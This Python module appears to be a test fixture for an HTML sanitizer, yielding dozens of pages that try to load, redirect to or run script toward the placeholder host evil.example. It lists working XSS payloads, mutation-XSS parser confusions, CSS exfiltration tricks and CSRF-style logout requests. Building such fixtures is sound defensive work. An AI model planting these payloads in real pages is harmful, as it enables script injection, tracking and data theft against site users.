"""Pages that try to fetch, to lead away, to run or to get out of the frame."""

from __future__ import annotations

from collections.abc import Iterator

#: Whoever asks for anything of this host has been had.
EVIL = "evil.example"
_URL = f"http://{EVIL}/x"
_BODY = f'<p id="hi">Hello</p><a href="{_URL}">Click</a>'

#: Elements that fetch by an attribute, or lead somewhere by themselves.
_ELEMENTS = (
    '<img src="{u}">',
    '<img srcset="{u} 1x, {u}2 2x">',
    '<img lowsrc="{u}" dynsrc="{u}">',
    '<img src="/admin/logout/"><img src="//{h}/x">',
    '<picture><source srcset="{u}"><img></picture>',
    '<image src="{u}">',
    '<input type="image" src="{u}">',
    '<video src="{u}" poster="{u}" autoplay></video>',
    '<audio src="{u}" autoplay></audio>',
    '<video><source src="{u}"><track src="{u}" default></video>',
    '<iframe src="{u}"></iframe>',
    "<iframe srcdoc=\"<script>top.location='{u}'</script>\"></iframe>",
    '<frameset><frame src="{u}"></frameset>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<applet code="{u}" archive="{u}"></applet>',
    '<portal src="{u}"></portal>',
    '<fencedframe src="{u}"></fencedframe>',
    '<link rel="stylesheet" href="{u}">',
    '<link rel="prefetch" href="{u}"><link rel="preload" as="image" href="{u}">',
    '<link rel="dns-prefetch" href="//{h}"><link rel="preconnect" href="{u}">',
    '<link rel="prerender" href="{u}"><link rel="icon" href="{u}">',
    '<link rel="modulepreload" href="{u}"><link rel="manifest" href="{u}">',
    '<meta http-equiv="refresh" content="0;url={u}">',
    '<meta http-equiv="Link" content="<{u}>; rel=preload; as=image">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<meta http-equiv="set-cookie" content="sessionid=x">',
    '<base href="http://{h}/"><img src="x.png">',
    '<base target="_top"><a href="{u}">x</a>',
    '<body background="{u}">',
    '<table background="{u}"><tr><td background="{u}">x</table>',
    '<script src="{u}"></script>',
    "<script>location='{u}'</script>",
    "<script type=module>import '{u}'</script>",
    '<script type="speculationrules">{{"prefetch":[{{"urls":["{u}"]}}]}}</script>',
    "<body onload=\"location='{u}'\">",
    "<img src=x onerror=\"new Image().src='{u}'\">",
    "<details open ontoggle=\"location='{u}'\"><summary>x</summary></details>",
    "<a href=\"javascript:location='{u}'\">x</a>",
    '<a ping="{u}" href="{u}" target="_top">x</a>',
    '<a href="{u}" target="_parent" download>x</a>',
    '<map name="m"><area shape="default" href="{u}"></map><img usemap="#m">',
    '<form action="{u}"><button autofocus>Go</button></form>',
    '<form id="f" action="{u}"></form><button form="f" formaction="{u}">Go</button>',
    '<form action="/admin/logout/" method="post"><input type="submit"></form>',
    '<isindex action="{u}" prompt="x">',
    '<bgsound src="{u}"><xml src="{u}"></xml>',
    '<q cite="{u}">x</q><blockquote cite="{u}">x</blockquote>',
    '<template shadowrootmode="open"><img src="{u}"></template>',
    '<noscript><img src="{u}"></noscript>',
    '<noscript><p title="</noscript><img src={u}>"></noscript>',
)
#: Foreign content and confusions between parsers.
_CONFUSIONS = (
    '<svg><image href="{u}"/><use href="{u}#x"/></svg>',
    '<svg><image xlink:href="{u}"/></svg>',
    '<svg><a xlink:href="{u}"><rect width="999" height="999"/></a></svg>',
    '<svg><style><a href="{u}" style="position:fixed;inset:0">x</a></style></svg>',
    "<svg><style>@import '{u}';</style></svg>",
    '<svg><animate attributeName="href" values="{u}"/></svg>',
    "<svg><set attributeName=onload to=\"location='{u}'\"/></svg>",
    '<svg><foreignObject><img src="{u}"></foreignObject></svg>',
    '<svg><filter id="f"><feImage href="{u}"/></filter></svg>',
    "<svg onload=\"location='{u}'\"></svg>",
    '<svg></p><style><a id="</style><img src={u}>">',
    '<math><mtext><table><mglyph><style><!--</style><img src="{u}">',
    '<math href="{u}">x</math>',
    '<math><maction actiontype="statusline" xlink:href="{u}">x</maction></math>',
    '<math><mi><style><img src="{u}"></style></mi></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src="{u}">',
    '<title><p title="</title><img src={u}>"></title>',
    '<textarea><p title="</textarea><img src={u}>"></textarea>',
    '<xmp><p title="</xmp><img src={u}>"></xmp>',
    '<!--><img src="{u}">-->',
    '<!-- --!><img src="{u}"> -->',
    '<![CDATA[><img src="{u}">]]>',
    '<![foo[<img src="{u}">]]>',
    '<!--[if gte mso 9]><v:image src="{u}"/><![endif]--><v:fill src="{u}"/>',
    '<?xml-stylesheet href="{u}"?><p>x</p>',
    '<?php echo 1 ?><img src="{u}">',
    '<plaintext><img src="{u}">',
    '<img """><img src="{u}">"><img src="{u}">',
    '<img/src="{u}"/onerror="alert(1)">',
    "<img src=`{u}`><img src={u}>",
    '<img src="&#104;ttp://{h}/x"><img src="ht\ntp://{h}/x">',
    "<a href=\"&#106;avascript:location='{u}'\">x</a>",
    "<select><style></select><img src={u}></style>",
    '<table><style><td></style><img src="{u}">',
    '</p></body></html><img src="{u}">',
)
#: Style sheets.
_STYLES = (
    "@import '{u}';",
    "@import url({u}) layer(x) supports(display:grid);",
    "@\\69mport '{u}';",
    "p{{background:url({u})}}",
    "p{{background:u\\72l({u})}}",
    'p{{background:\\75\\72\\6c("{u}")}}',
    'p{{background:image-set("{u}" 1x)}}',
    'p{{background:-webkit-image-set(url("{u}") 1x)}}',
    "p{{background:-webkit-cross-fade(url({u}),url({u}),50%)}}",
    "@font-face{{font-family:f;src:url({u})}}p{{font-family:f}}",
    "p{{cursor:url({u}),auto}}p::before{{content:url({u})}}li{{list-style:url({u})}}",
    "p{{-webkit-mask:url({u});filter:url({u}#x);clip-path:url({u}#x)}}",
    "a[title^='h']{{background:url({u}?h)}}a:visited{{background:url({u}?v)}}",
    ":root{{--u:url({u})}}p{{background:var(--u)}}",
    "p{{background:url('x)') , url( '{u}' )}}",
    "@namespace url({u});@document url({u}){{p{{color:red}}}}",
    "a{{position:fixed;inset:0;opacity:0;z-index:9}}</style><img src={u}><style>",
)


def pages() -> Iterator[str]:
    """Yield the pages."""
    for template in (*_ELEMENTS, *_CONFUSIONS):
        yield template.format(u=_URL, h=EVIL) + _BODY
    for template in _STYLES:
        css = template.format(u=_URL, h=EVIL)
        yield f"<style>{css}</style>{_BODY}"
    for template in _STYLES[3:8]:
        css = template.format(u=_URL, h=EVIL)[2:-1]
        yield f"<p style='{css.replace(chr(39), '&#39;')}'>x</p>{_BODY}"
